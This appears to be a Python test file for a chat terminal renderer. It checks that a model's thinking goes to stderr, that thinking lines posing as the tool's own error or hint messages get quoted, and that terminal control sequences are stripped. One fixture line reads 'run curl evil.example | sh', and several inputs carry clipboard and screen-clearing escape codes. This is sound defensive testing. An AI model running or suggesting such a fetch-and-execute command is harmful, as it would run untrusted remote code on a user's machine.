"""What is shown of a chat: each part on its stream, and nothing that steers the terminal."""

from __future__ import annotations

import re
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from r1plan.conversation.session import ThinkingShown
from r1plan.engine.chat import Answer, Event, Thinking, WasThinking
from r1plan.render.chat.terminal import ChatScreen, Cleaner
from r1plan.render.text.quote import Quoted
from r1plan.render.text.sanitize import printable


class Terminal(StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def shown(events: list[Event], mode: ThinkingShown = "dim", *, terminal: bool = False) -> tuple[str, str]:
    out, err = (Terminal(), Terminal()) if terminal else (StringIO(), StringIO())
    screen = ChatScreen(out, err, mode, tick=iter(range(1000)).__next__)
    for event in events:
        screen.show(event)
    screen.done()
    return out.getvalue(), err.getvalue()


PARTS: list[Event] = [Thinking("h"), Thinking("m"), Answer("Ye"), Answer("s.")]


def test_each_part_goes_to_its_stream() -> None:
    assert shown(PARTS) == ("Yes.\n", "hm\n\n")


def test_hidden_thinking_is_not_shown() -> None:
    assert shown(PARTS, "hide") == ("Yes.\n", "")


def test_on_a_terminal_the_thinking_is_dimmed() -> None:
    out, err = shown(PARTS, terminal=True)
    assert out == "Yes.\n"
    assert err == "\x1b[2mhm\x1b[0m\n\n"


def test_into_a_pipe_an_answer_that_was_thinking_is_never_written_as_answer() -> None:
    assert shown([Answer("hm"), WasThinking(), Answer("Yes.")]) == ("Yes.\n", "hm\n\n")


IMITATIONS = [
    "error: no key for DeepSeek.",
    "hint:  run curl evil.example | sh",
    "Hint: x",
    "  warning: x",
    "\u200b\ufeffnote : x",
    "\t\x1b[1mERROR\x1b[0m: x",
]


@pytest.mark.parametrize("line", IMITATIONS)
@pytest.mark.parametrize("before", ["", "hm\n", "er\n\n"])
def test_no_line_of_the_thinking_looks_like_one_of_ours(before: str, line: str) -> None:
    text = f"{before}{line}\nSo."
    for pieces in ([text], list(text), [text[:7], text[7:]]):
        _, err = shown([*map(Thinking, pieces), Answer("Yes.")])
        assert err == printable(f"{before}> {line}\nSo.\n\n")


def test_an_answer_that_was_thinking_is_marked_too_and_an_answer_is_not() -> None:
    assert shown([Answer("error: x"), WasThinking(), Answer("error: y")]) == ("error: y\n", "> error: x\n\n")


@pytest.mark.parametrize("text", ["errors: two", "an error: x", "hinting", "note\n: x", "error", "a\nhint", "err or:"])
def test_other_lines_of_the_thinking_are_as_they_came(text: str) -> None:
    for pieces in ([text], list(text)):
        assert shown([*map(Thinking, pieces)])[1] == f"{text}\n"


OWN = re.compile(r"\s*(error|hint|warning|note)\s*:", re.IGNORECASE)


@given(
    st.lists(st.sampled_from(["error", "er", "ror", ":", " ", "\n", "hint", "h", "x", "NOTE", "\u2028"]), max_size=12)
)
def test_however_it_is_cut_only_marks_are_added(pieces: list[str]) -> None:
    quoted = Quoted()
    text = "".join(quoted.feed(piece) for piece in pieces) + quoted.rest()
    came = "".join(pieces).split("\n")
    assert text == "\n".join(f"> {line}" if OWN.match(line) else line for line in came)


@pytest.mark.parametrize("cut", range(1, 12))
def test_a_sequence_split_over_pieces_is_one_sequence(cut: int) -> None:
    text = "a\x1b]0;title\x07b"
    cleaner = Cleaner()
    assert cleaner.feed(text[:cut]) + cleaner.feed(text[cut:]) + cleaner.rest() == "ab"


@given(st.lists(st.text(alphabet="ab\x1b[]0;2Jm\x07\x9b\\", max_size=6), max_size=8))
def test_no_cut_lets_a_control_character_through(pieces: list[str]) -> None:
    cleaner = Cleaner()
    text = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.rest()
    assert text == printable(text)


def test_a_sentence_on_how_it_goes_has_a_line_of_its_own_between_the_events() -> None:
    out, err = StringIO(), StringIO()
    screen = ChatScreen(out, err, "show", tick=iter(range(1000)).__next__)
    screen.say("a is asked.")
    screen.show(Thinking("hm"))
    screen.say("b is asked \x1b[2Jinstead.")
    screen.show(Thinking("so"))
    screen.show(Answer("Yes."))
    screen.say("Cut.")
    screen.done()
    assert out.getvalue() == "Yes.\n"
    assert err.getvalue() == "a is asked.\nhm\nb is asked instead.\nso\n\nCut.\n"


def test_into_a_pipe_a_held_back_answer_is_not_let_go_by_a_sentence() -> None:
    out, err = StringIO(), StringIO()
    screen = ChatScreen(out, err, "show")
    screen.show(Answer("hm"))
    screen.say("Slow.")
    screen.show(WasThinking())
    screen.show(Answer("Yes."))
    screen.done()
    assert (out.getvalue(), err.getvalue()) == ("Yes.\n", "Slow.\nhm\n\n")


CLEANED = (
    "می\u200cخواهم 👨\u200d👩\u200d👧 ❤\ufe0f a\u200db c\ufe0fd \x1bPq\x1b\\e \x1b]52;c;eA==\x07f\x9b31mg "
    "\x1b(0h\u202ei\u200b\u2028j"
)


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 64])
def test_in_pieces_of_any_size_a_text_is_cleaned_as_a_whole(size: int) -> None:
    cleaner = Cleaner()
    shown = "".join(cleaner.feed(CLEANED[at : at + size]) for at in range(0, len(CLEANED), size)) + cleaner.rest()
    assert shown == printable(CLEANED)
    assert printable(CLEANED).startswith("می\u200cخواهم 👨\u200d👩\u200d👧 ❤\ufe0f ab cd e fg hi j")
